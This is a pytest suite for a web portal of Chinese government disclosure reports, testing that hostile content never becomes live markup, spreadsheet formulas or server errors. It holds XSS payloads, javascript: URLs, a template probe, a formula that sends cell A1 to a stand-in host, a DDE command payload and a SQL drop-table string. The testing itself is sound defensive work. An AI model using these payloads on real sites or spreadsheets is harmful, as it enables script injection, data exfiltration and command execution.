"""Nothing that a document says, an address asks or a fresh database lacks makes a page run, break or lie."""

from __future__ import annotations

import csv
import html
import io
import re
from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote
from xml.etree import ElementTree

import lxml.html
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from etl.archive import Archive
from etl.load import Writer, open_database
from etl.report import ExtraRow, Fact, Finding, Identity, Section
from portal import describe
from portal.app import Portal
from portal.formulas import CsvGuard, harmless
from tests.load.reports import cell, cells_2021, origin, outcome, report
from tests.portal.asking import ask

EVIL = '"><script>alert(1)</script><img src=x onerror=alert(1)>{{7*7}}'
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"甲")'
LONG = "甲" * 600 + "人民政府"


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Portal, list[str]]]:
    """A portal over reports whose every text is an attack, one without year, publisher and tables, and one with long names."""
    home = tmp_path_factory.mktemp("evil")
    archive = Archive(str(home / "archive"))
    with closing(open_database(home / "gongkai.db")) as database:
        writer = Writer(database, "run")
        writer.run({"id": "run", "kind": "nightly", "state": "finished", "started_at": "2024-01-01T00:00:00Z", "finished_at": "2024-01-01T01:00:00Z"})
        cells = [*cells_2021(granted__total=EVIL), cell("art20_9", "made_up", "x", FORMULA)]
        attack = report(
            f"示例{EVIL}局", 2022, EVIL, cells=cells, text=f"{EVIL}复议{FORMULA}", region=f"浙江省/{EVIL}",
            extras=(ExtraRow("applications", EVIL, (EVIL, FORMULA), row_index=9),),
            facts=(Fact(EVIL, EVIL, EVIL, False, 1, EVIL[:10], 0, 10),),
            findings=(Finding("A1", "error", EVIL, "source", "applications", "granted", "total", EVIL, FORMULA),
                      Finding(EVIL, "warning", EVIL, "source", EVIL, EVIL, EVIL)),
            warnings=(EVIL,))
        attack = replace(attack, identity=replace(attack.identity, title=FORMULA))
        nothing = report(None, None, "nothing", published_on=None, cells=[], text="", level=None, region=None, region_code=None,
                         form=None, quality="no_tables")
        nothing = replace(nothing, identity=Identity(), sections=())
        long = report(LONG, 2021, "long", region=f"浙江省/{LONG}")
        long = replace(long, identity=replace(long.identity, title=LONG), sections=(Section(None, LONG, LONG * 20),))
        for number, one in enumerate((attack, nothing, long)):
            data = f"<html>{EVIL}{number}</html>".encode()
            where = origin("javascript:alert(1)//") if number == 0 else origin(f"http://x.example.gov.cn/{number}")
            archive.put(data, where)
            writer.load(outcome(one), where, "text/html", len(data))
        writer.failure({"source_id": None, "url": "javascript:alert(1)", "stage": "read", "kind": EVIL, "message": EVIL})
        writer.derive()
        ids = [i for (i,) in database.conn.execute("select id from reports order by id")]
    portal = Portal(home / "gongkai.db", archive)
    yield portal, ids
    portal.close()


def addresses(ids: list[str]) -> list[str]:
    agencies = sorted({i.rpartition("-")[0] for i in ids if i.count("-") > 1})
    return [
        "/", "/search?q=复议", "/search?q=" + quote(EVIL), "/rankings/requests?year=2022", "/rankings/refusal_rate?year=2021", "/stories",
        f"/similar/{ids[0]}/{ids[-1]}", "/compare?" + "&".join(f"r={i}" for i in ids), "/place/330226", "/query", "/gongkai",
        *(f"/report/{i}" for i in ids), *(f"/report/{i}?q=复议" for i in ids), *(f"/agency/{a}" for a in agencies),
        *(f"/report/{i}/cell/applications/granted/total" for i in ids), *(f"/stories/{name}" for name in describe.queries()),
        *(f"/gongkai/{name}" for name in describe.metadata()["databases"]["gongkai"]["tables"]), f"/gongkai/reports/{ids[0]}",
        f"/gongkai/reports?_where={quote(EVIL)}", f"/gongkai?sql={quote(EVIL)}", f"/{quote(EVIL)}", f"/gongkai/sums?rule={quote(EVIL)}",
    ]


@pytest.mark.parametrize("lang", ["zh", pytest.param("en", marks=pytest.mark.slow)])
def test_no_text_becomes_markup(evil: tuple[Portal, list[str]], lang: str) -> None:
    portal, ids = evil
    seen = 0
    for path in addresses(ids):
        answer = ask(portal, path, accept_language=lang)
        assert answer.status_code in (200, 302, 400, 404), path
        page = answer.text
        assert "<script" not in page.lower(), path
        assert "<img" not in page.lower(), path
        for element in lxml.html.document_fromstring(page or "<p>").iter(etree.Element):
            for name, value in element.attrib.items():
                assert not name.startswith("on"), (path, name)
                assert name not in ("href", "src", "action") or not re.match(r"\s*(javascript|data|vbscript):", value, re.IGNORECASE), (path, value)
        assert "49}}" not in page, path
        assert "script-src" not in answer.headers["content-security-policy"]
        seen += "alert(1)" in html.unescape(page)
    assert seen > 15, "the attacks are not on the pages at all"


def test_a_report_of_which_nothing_is_known_has_its_page(evil: tuple[Portal, list[str]]) -> None:
    portal, ids = evil
    unknown = next(i for i in ids if i.count("-") < 2)
    page = ask(portal, f"/report/{unknown}").text
    assert "机关不明" in page
    assert "年度不明" in page
    assert "None" not in page


def test_feeds_and_files_hold_the_texts_and_stay_well_formed(evil: tuple[Portal, list[str]]) -> None:
    portal, _ = evil
    for path in ("/feed/new.atom", "/feed/story/sums.atom"):
        ElementTree.fromstring(ask(portal, path).content)
    for path in ("/gongkai/reports.csv", "/gongkai/sections.csv?_stream=1", "/gongkai/findings.csv?_dl=1", "/gongkai/sums.csv",
                 "/gongkai.csv?sql=" + quote(f"select '{FORMULA.replace(chr(39), '')}' as a, -5 as b, '-' as c")):
        rows = list(csv.reader(io.StringIO(ask(portal, path).text)))
        assert len(rows) > 1, path
        assert not any(harmless(text) != text for row in rows for text in row), path
    assert ask(portal, "/gongkai.csv?sql=" + quote("select -5 as a, '-' as b, '=1' as c, '+86 1' as d")).text.splitlines()[1] == "-5,-,'=1,+86 1"
    assert FORMULA in str(ask(portal, "/gongkai/reports.json?_shape=array").json()), "JSON is data, and stays as it is"


@pytest.mark.parametrize("text", ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|x", "\t=1", "\r=1"])
def test_formulas_are_made_harmless(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "-", "--", "-5", "+1.5", "-12,000", "甲=乙", "1=1", "-7%"])
def test_what_is_none_stays(text: str) -> None:
    assert harmless(text) == text


@given(st.lists(st.lists(st.text(st.characters(exclude_characters="\x00\r", exclude_categories=["Cs"]), max_size=12), min_size=2, max_size=4), max_size=6),
       st.integers(1, 30))
def test_a_guarded_file_is_the_same_file_wherever_it_is_cut(rows: list[list[str]], size: int) -> None:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    data, guard = out.getvalue().encode(), CsvGuard()
    passed = b"".join(guard.feed(data[i : i + size]) for i in range(0, len(data), size)) + guard.feed(b"", last=True)
    found = list(csv.reader(io.StringIO(passed.decode(), newline="")))
    assert found == [[harmless(text) for text in row] for row in rows]


ODD = ["abc", "-1", "*", '"', "%00", "a" * 5000, "99999999999999999999", "²", "%FF%FE", "1;drop table reports", "１２", "<b>"]


@pytest.mark.parametrize("path", [
    "/?year={}", "/?indicator={}", "/search?q={}", "/search?q=公开&year={}", "/search?q=公开&place={}", "/search?q=公开&agency={}", "/search?q=公开&page={}",
    "/rankings/refusal_rate?year={}&level={}&place={}&order={}&page={}", "/compare?r={}&q={}", "/compare.csv?r={}", "/place/330000?year={}&page={}",
    "/stories/sums?year={}&rule={}", "/stories/refusals?year={}&min_requests={}&level={}", "/stories/ground-most?ground={}",
    "/gongkai/reports?_sort={}", "/gongkai/reports?_facet={}", "/gongkai/reports?_where={}", "/gongkai/reports?year__gt={}",
    "/gongkai/reports?_facet_size={}", "/gongkai/reports.json?_ttl={}", "/gongkai/reports?_size={}", "/gongkai/reports?_next={}",
    "/gongkai/sections?_search={}", "/gongkai?sql={}", "/gongkai/reports.csv?_sort={}", "/gongkai/reports.xlsx?_size={}",
])
def test_no_argument_is_a_defect(portal: Portal, path: str, caplog: pytest.LogCaptureFixture) -> None:
    for odd in ODD:
        value = odd if odd.startswith("%") else quote(odd)
        answer = ask(portal, path.replace("{}", value))
        assert answer.status_code < 500, odd
        assert "Traceback" not in answer.text
    assert not caplog.records


@pytest.mark.parametrize("path", [
    "/report/x", "/report/" + "a" * 101, "/agency/x", "/place/99", "/stories/none", "/similar/a/b", "/rankings/none", "/original/" + "0" * 64,
    "/page/" + "0" * 64 + "/1.png", "/gongkai/none", "/gongkai/reports/none", "/nothing", "/feed/agency/x.atom", "/report/x/cell/a/b/c",
])
def test_what_is_not_there_is_said_in_the_house_style(portal: Portal, path: str) -> None:
    answer = ask(portal, path)
    assert answer.status_code == 404
    assert '<header class="site">' in answer.text


def test_a_fresh_database_has_every_page_and_says_what_to_do(tmp_path: Path) -> None:
    open_database(tmp_path / "gongkai.db").close()
    portal = Portal(tmp_path / "gongkai.db", Archive(str(tmp_path / "archive")))
    try:
        page = ask(portal, "/")
        assert page.status_code == 200
        assert "gongkai nightly" in page.text
        for path in ("/search?q=公开", "/rankings/refusal_rate", "/stories", "/compare", "/place/330000", "/gongkai", "/query", "/feed/new.atom",
                     "/feed/new.json", "/compare.csv", *(f"/stories/{name}" for name in describe.queries())):
            assert ask(portal, path).status_code == 200, path
    finally:
        portal.close()


def test_pages_answer_while_the_database_is_being_written(tmp_path: Path) -> None:
    with closing(open_database(tmp_path / "gongkai.db")) as database:
        writer = Writer(database, "run")
        writer.load(outcome(report()), origin(), "text/html", 1)
        portal = Portal(tmp_path / "gongkai.db", None)
        try:
            database.execute("begin immediate")
            database.execute("update reports set title = 'unfinished'")
            answer = ask(portal, "/gongkai/reports")
            assert answer.status_code == 200
            assert "unfinished" not in answer.text
            database.execute("rollback")
        finally:
            portal.close()


def test_no_rule_of_the_metadata_hides_a_table() -> None:
    """What lets :class:`portal.app.Portal` answer Datasette's question for such rules without looking."""
    assert '"allow' not in describe.dump()
